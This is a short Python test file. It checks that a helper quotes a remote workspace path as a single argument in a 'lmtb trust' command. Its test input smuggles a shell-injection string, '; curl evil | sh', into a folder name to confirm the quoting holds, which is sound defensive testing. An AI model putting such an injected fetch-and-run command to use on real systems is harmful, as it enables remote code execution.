"""The mark of workspaces on other hosts."""

from __future__ import annotations

import shlex

from manager.routing.discovery.host_mark import host_mark
from manager.routing.workspace.remote_address import RemoteRoot


def test_the_command_of_the_mark_names_one_folder_whatever_it_is_called() -> None:
    root = "ssh://build/srv/a; curl evil | sh 'x"
    said = host_mark(RemoteRoot("ssh://build", root.removeprefix("ssh://build")))
    command = said.partition("the user with: ")[2]
    assert shlex.split(command) == ["lmtb", "trust", root]
    assert host_mark(RemoteRoot("ssh://build", "/srv/app")).endswith("lmtb trust ssh://build/srv/app")
